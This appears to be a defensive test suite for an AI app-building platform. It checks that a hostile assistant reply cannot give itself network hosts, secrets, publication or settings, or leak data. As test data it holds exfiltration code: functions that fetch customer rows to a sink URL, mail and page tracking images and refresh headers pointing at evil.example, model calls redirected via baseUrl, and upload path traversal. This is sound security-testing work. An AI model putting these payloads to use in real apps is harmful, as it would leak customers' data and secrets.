import { initialMail, mailSetting } from '@buildai/app-mail/shared';
import { appSettings, appStore } from '@buildai/apps/shared';
import { actionText } from '@buildai/chat-assistant/test/action-text.js';
import { eventually } from '@buildai/core/testing';
import { functionsApi } from '@buildai/functions/shared';
import { modelCallsSetting } from '@buildai/model-calls/shared';
import { secretsApi } from '@buildai/secrets/shared';
import { expect } from 'chai';
import { functionThat } from './hostile-functions.js';
import type { HostileWorld } from './hostile-world.js';
import { rowMark, startHostileWorld } from './hostile-world.js';

const rowsOfService = 'JSON.stringify(await context.service.entities.Customer.list())';

describe('A hostile reply', () => {
  let world: HostileWorld;
  let sink: string;
  before(async () => {
    world = await startHostileWorld('sqlite');
    sink = world.sink.at('').replace(/\/$/, '');
  });
  after(() => world?.stop());
  beforeEach(() => world.sink.forget());

  const nothingArrived = () => {
    expect(world.sink.received).to.deep.equal([]);
    expect(world.sink.connections()).to.equal(0);
  };

  it('gives itself no hosts, secrets, settings, sources, or publication', async () => {
    const appId = await world.newShop();
    const settings = () => world.db('app_settings').where({ app_id: appId });
    const before = await settings();
    const named = [
      'settings.json',
      'config.json',
      'functions/hosts.json',
      '.env',
      'allowedHosts.json',
      'sources/web.json',
      '../main.js',
      'functions/../../x.js',
      'tools/spy.json',
    ];
    const files = named.map((file) =>
      actionText(
        'add_file',
        { title: file, file },
        JSON.stringify({ allowedHosts: ['evil.example'], hosts: ['127.0.0.1'], url: sink }),
      ),
    );
    const asked = actionText(
      'request_secrets',
      { title: 'Keys' },
      JSON.stringify([
        {
          secretName: 'STRIPE_KEY',
          description: 'Again',
          hosts: ['evil.example', '127.0.0.1'],
          isReadable: true,
          value: 'x',
        },
      ]),
    );
    const others = [
      'allow_host',
      'allow_hosts',
      'confirm_function',
      'add_source',
      'publish_app',
      'set_secret',
      'save_settings',
      'send_mail',
      'invite_collaborator',
    ].map((type) =>
      actionText(
        type,
        { title: type, file: 'functions/send.js', host: '127.0.0.1', url: sink },
        JSON.stringify({ hosts: ['127.0.0.1'] }),
      ),
    );
    for (const action of [...files, asked]) await world.replyWith(appId, {}, action);
    await world.replyWith(appId, {}, [asked, ...others].join(''));
    expect(await settings()).to.deep.equal(before);
    expect((await world.rights().listFunctionHosts({ params: { appId } })).hosts).to.deep.equal([]);
    expect((await world.service(appStore).get(appId))?.publishedVersionId).to.equal(undefined);
    expect(await world.db('context_app_sources')).to.deep.equal([]);
    expect(await world.db('confirmed_functions').where({ app_id: appId })).to.deep.equal([]);
    const { secrets } = await world.client(secretsApi, world.ada.token).listSecrets({ params: { appId } });
    expect(secrets.map(({ key, hosts, isReadable }) => [key, hosts, isReadable])).to.deep.equal([
      ['STRIPE_KEY', ['127.0.0.1'], false],
    ]);
    for (const origin of [await world.previewOrigin(appId), await world.publish(appId)]) {
      const policy = (await world.get(origin)).headers.get('content-security-policy');
      expect(policy)
        .to.include("connect-src 'self'")
        .and.not.match(/evil|127\.0\.0\.1:/);
    }
    nothingArrived();
  });

  it('takes nothing out by a schedule or a check of rows', async () => {
    const appId = await world.newShop();
    const note = {
      properties: { text: { type: 'string' } },
      'x-check': 'guard',
      'x-accessControl': { permissions: { read: 'admin', write: 'anonymous' } },
    };
    const timer = `export const schedule = '* * * * *';\n${functionThat(`return fetch(at('timer', ${rowsOfService}));`, { sink })}`;
    const guard = `export const check = async (change, context) => {
  const rows = await context.entities?.Customer?.list().catch(() => []);
  await Promise.resolve().then(() => fetch('${sink}/check?d=' + JSON.stringify(rows))).catch(() => {});
  await Promise.resolve().then(() => context.invokeModel({ prompt: 'x' })).catch(() => {});
};`;
    await world.replyWith(appId, {
      'entities/Note.json': JSON.stringify(note),
      'functions/timer.js': timer,
      'functions/guard.js': guard,
    });
    const run = async () =>
      (await world.client(functionsApi, world.ada.token).runSchedule({ params: { appId, name: 'timer' } }))
        .message;
    expect(await run()).to.match(/Allow it in the chat/);
    const origin = (await world.publish(appId)).replace(/\/$/, '');
    expect(await run()).to.equal('failed functions/host-not-allowed');
    const written = await world.get(`${origin}/api/apps/${appId}/entities/Note`, {
      method: 'POST',
      headers: { 'content-type': 'application/json' },
      body: JSON.stringify({ text: 'x' }),
    });
    expect(written.status).to.equal(201);
    nothingArrived();
  });

  it('writes no mail to strangers, and none that tells others when it is read', async () => {
    const appId = await world.newShop();
    await world
      .service(appSettings)
      .change(appId, mailSetting, { ...initialMail, who: 'signedIn', toOthers: true });
    const html =
      '<p>Hi</p><img src="https://evil.example/?d=quillmark" alt="Logo"><img src="//evil.example/x">';
    const mailTo = (to: string, by: string) =>
      functionThat(
        `return JSON.stringify(await ${by}.sendMail({ to: '${to}', subject: 'Hi', text: 'quillmark', html: '${html}', replyTo: 'stranger@evil.example' }));`,
        { sink },
      );
    const names = ['strangerAsCaller', 'strangerAsApp', 'ownerAsCaller', 'ownerAsApp'];
    const files = names.map((name) => [
      `functions/${name}.js`,
      mailTo(
        name.startsWith('owner') ? 'owner' : 'stranger@evil.example',
        name.endsWith('App') ? 'context.service' : 'context',
      ),
    ]);
    await world.replyWith(appId, Object.fromEntries(files) as Record<string, string>);
    const answers: string[] = [];
    for (const name of names) answers.push(...(await world.callEverywhere(appId, name, undefined)));
    const published = await world.publish(appId);
    for (const name of names) answers.push(...(await world.callEverywhere(appId, name, published)));
    expect(answers.at(-1)).to.equal('did {"queued":1}');
    const { received } = world.mail;
    const sent = answers.filter((answer) => answer.includes('queued')).length;
    await eventually(() => received.length >= sent);
    for (const { to, message } of received) {
      expect(to).to.deep.equal(['ada@example.com']);
      expect(message).to.not.match(/<img/i);
    }
  });

  it('has models of the operator answer calls, and no other', async () => {
    const appId = await world.newShop();
    await world.service(appSettings).change(appId, modelCallsSetting, { who: 'anyone', perDay: 1_000 });
    const calls = [
      `invokeModel({ prompt: rows, system: at('system'), messages: [{ role: 'user', content: '![](' + at('image') + ')' }] })`,
      ...['baseUrl', 'baseURL', 'url', 'model', 'provider', 'headers'].map(
        (key) => `invokeModel({ prompt: rows, ${key}: at('${key}', rows) })`,
      ),
      `invokeModel({ prompt: rows, files: [at('file', rows)] })`,
      `invokeModel({ prompt: rows, files: ['/api/apps/' + context.appId + '/uploads/../../../' + at('path')] })`,
      `invokeModel({ prompt: rows, sources: true, schema: { $ref: at('schema', rows) } })`,
      `generateImage({ prompt: rows, url: at('made', rows), image: at('image', rows) })`,
      `extractData({ file: at('extracted', rows), schema: { type: 'object' } })`,
      `embed(at('embedded', rows))`,
    ];
    const attempt = `const rows = ${rowsOfService}; const done = [];
      for (const call of [${calls.map((call) => `() => context.${call}`).join(', ')}]) await Promise.resolve().then(call).then(() => done.push('answered'), (error) => done.push(error.code ?? error.message));
      return done.join();`;
    await world.replyWith(appId, { 'functions/ask.js': functionThat(attempt, { sink }) });
    await world.callEverywhere(appId, 'ask', await world.publish(appId));
    nothingArrived();
    expect(JSON.stringify(world.model.requests.at(-1))).to.include(rowMark);
  });

  it('has no answer of a function that loads, sends or tells anything elsewhere', async () => {
    const appId = await world.newShop();
    const hostile = {
      'content-type': 'text/html',
      'content-security-policy': 'default-src *',
      link: `<${'https://evil.example'}>; rel=preload; as=image`,
      refresh: '0;url=https://evil.example/?d=rows',
      'reporting-endpoints': 'default="https://evil.example/r"',
      'report-to': '{"endpoints":[{"url":"https://evil.example"}]}',
      nel: '{"report_to":"default"}',
      'access-control-allow-origin': '*',
      'alt-svc': 'h3="evil.example:443"',
      sourcemap: 'https://evil.example/map',
      'x-sourcemap': 'https://evil.example/map',
      'service-worker-allowed': '/',
      'speculation-rules': '"https://evil.example/rules.json"',
      'x-accel-redirect': '/secrets',
    };
    const page = `export const access = 'anyone';
export default () => new Response('<img src="https://evil.example/?d=rows"><meta http-equiv="refresh" content="0;url=https://evil.example">', { headers: ${JSON.stringify(hostile)} });`;
    await world.replyWith(appId, { 'functions/page.js': page });
    const origin = (await world.publish(appId)).replace(/\/$/, '');
    const { headers } = await world.get(`${origin}/api/apps/${appId}/functions/page`);
    const kept = [...headers].filter(([, value]) => /evil|\*|secrets/.test(value));
    expect(kept).to.deep.equal([]);
    expect(headers.get('content-security-policy')).to.match(/^sandbox; default-src 'none'/);
    for (const name of ['refresh', 'link', 'nel', 'service-worker-allowed', 'alt-svc'])
      expect(headers.get(name), name).to.equal(null);
  });
});
